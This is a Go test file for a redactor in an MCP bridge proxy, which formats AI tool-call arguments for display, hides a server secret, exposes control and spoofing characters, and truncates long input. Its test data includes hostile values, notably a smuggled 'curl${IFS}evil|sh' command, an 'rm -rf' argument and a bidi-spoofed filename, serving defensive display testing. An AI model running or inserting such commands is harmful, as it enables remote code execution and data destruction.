package proxy

import (
	"fmt"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/mcp-bridge/mcp-bridge/discovery"
)

func TestArgumentsShown(t *testing.T) {
	r := newRedactor(discovery.Server{Env: map[string]string{"TOKEN": "s3cret-value"}})
	tests := []struct{ args, want string }{
		{`{}`, `{}`},
		{`{ "a" : 1,"b":[true,null] }`, `{"a": 1, "b": [true, null]}`},
		{`{"a":1,"a":2}`, `{"a": 1, "a": 2}`},
		{`{"\u0063md":"\u0072m -rf"}`, `{"cmd": "rm -rf"}`},
		{`{"a":"x\u001b[2Ky"}`, `{"a": "x\u{1b}[2Ky"}`},
		{`{"a":"to\u202egnp.exe"}`, `{"a": "to\u{202e}gnp.exe"}`},
		{`{"a":"zero\u200bwidth\ufe0f"}`, `{"a": "zero\u{200b}width\u{fe0f}"}`},
		{`{"a":"\udb40\udc41"}`, `{"a": "\u{e0041}"}`},
		{`{"a":"two\nlines\t\"q\" \\"}`, `{"a": "two\nlines\t\"q\" \\"}`},
		{`{"a":"key s3cret-value!"}`, `{"a": "key [redacted]!"}`},
		{`{"a":"://;curl${IFS}evil|sh;:@x"}`, `{"a": "://;curl${IFS}evil|sh;:@x"}`}, // what a cell chose is no secret
		{`{"a":"/home/me/f"}`, `{"a": "/home/me/f"}`},                               // the user decides about it
		{`{"a":"é漢"}`, `{"a": "é漢"}`},
	}
	for _, test := range tests {
		if got := r.arguments([]byte(test.args)); got != test.want {
			t.Errorf("%s\n got %s\nwant %s", test.args, got, test.want)
		}
	}
}

// However long they are, the text is short, and says that it is not all.
func TestArgumentsShownAreBounded(t *testing.T) {
	r := newRedactor(discovery.Server{})
	long := strings.Repeat("x", 1<<20)
	for _, args := range []string{
		`{"a":"begin` + long + `end"}`, `{"` + long + `":1}`,
		`{"a":[` + strings.Repeat("1,", 1<<18) + `1]}`, `{"a":"` + strings.Repeat("漢", 1<<18) + `"}`,
	} {
		got := r.arguments([]byte(args))
		if n := utf8.RuneCountInString(got); n > maxArgumentsShown+2*maxStringShown || !strings.Contains(got, " more bytes") {
			t.Errorf("%d characters: %.100s", n, got)
		}
	}
	if got := r.arguments([]byte(`{"a":"begin` + long + `end"}`)); !strings.Contains(got, "beginxx") || !strings.Contains(got, "xxend") {
		t.Errorf("both ends are not there: %s", got)
	}
	many := `{`
	for i := range 5000 {
		many += fmt.Sprintf(`"k%d":"v",`, i)
	}
	if got := r.arguments([]byte(many + `"z":1}`)); len(got) > 2*maxArgumentsShown || !strings.Contains(got, "more bytes of arguments are not shown]") {
		t.Errorf("%d: %s", len(got), got)
	}
}
